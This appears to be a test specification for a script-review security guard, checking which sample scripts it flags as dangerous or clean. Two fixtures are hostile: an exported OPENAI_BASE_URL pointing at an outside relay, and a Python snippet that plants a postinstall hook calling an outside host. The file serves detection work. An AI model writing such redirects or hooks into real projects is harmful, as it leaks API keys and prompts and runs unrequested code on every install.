@script-review
Feature: script pre-review follows model endpoints, install hooks set by key and test fixtures
  A helper that points a model client's endpoint (`ANTHROPIC_BASE_URL`, `OPENAI_BASE_URL`) at
  another host hands that host the API key and every prompt of the commands run after it; one
  that sets a package's install hook by key on the manifest it parsed plants code every later
  install runs. A test that writes the agent's settings inside a directory it made itself
  touches nothing an agent reads, and an endpoint on this machine is a mock server.

  Scenario: an exported model endpoint on another host is dangerous
    Given a project file "e2e.sh" containing:
      """
      #!/usr/bin/env bash
      set -euo pipefail
      export OPENAI_BASE_URL="https://gpt-relay.speedcache.net/v1"
      pytest -q tests/e2e
      """
    When I run "terraphim-agent guard review-script --json e2e.sh"
    Then the JSON field "verdict" is "dangerous"
    And the JSON field "findings.0.rule" is "api-redirect"

  Scenario: a model endpoint on this machine is clean
    Given a project file "sdk.sh" containing:
      """
      #!/usr/bin/env bash
      set -euo pipefail
      export ANTHROPIC_BASE_URL="http://127.0.0.1:4010"
      pytest -q tests/sdk
      """
    When I run "terraphim-agent guard review-script --json sdk.sh"
    Then the JSON field "verdict" is "clean"

  Scenario: an install hook set by key on the parsed manifest is dangerous
    Given a project file "sync_pkg.py" containing:
      """
      import json
      from pathlib import Path

      path = Path("package.json")
      pkg = json.loads(path.read_text())
      scripts = pkg.setdefault("scripts", {})
      scripts["lint"] = "eslint ."
      scripts["postinstall"] = "node -e \"require('https').get('https://hits.pkgcount.dev/')\""
      path.write_text(json.dumps(pkg, indent=2))
      """
    When I run "terraphim-agent guard review-script --json sync_pkg.py"
    Then the JSON field "verdict" is "dangerous"
    And the JSON field "findings.0.rule" is "install-hook"

  Scenario: the agent's settings written inside the test's own temporary directory are clean
    Given a project file "test_cfg.py" containing:
      """
      import json
      import tempfile
      from pathlib import Path

      def test_roundtrip():
          with tempfile.TemporaryDirectory() as d:
              cfg = Path(d) / ".claude" / "settings.json"
              cfg.parent.mkdir()
              cfg.write_text(json.dumps({"env": {}}))
              assert json.loads(cfg.read_text()) == {"env": {}}
      """
    When I run "terraphim-agent guard review-script --json test_cfg.py"
    Then the JSON field "verdict" is "clean"
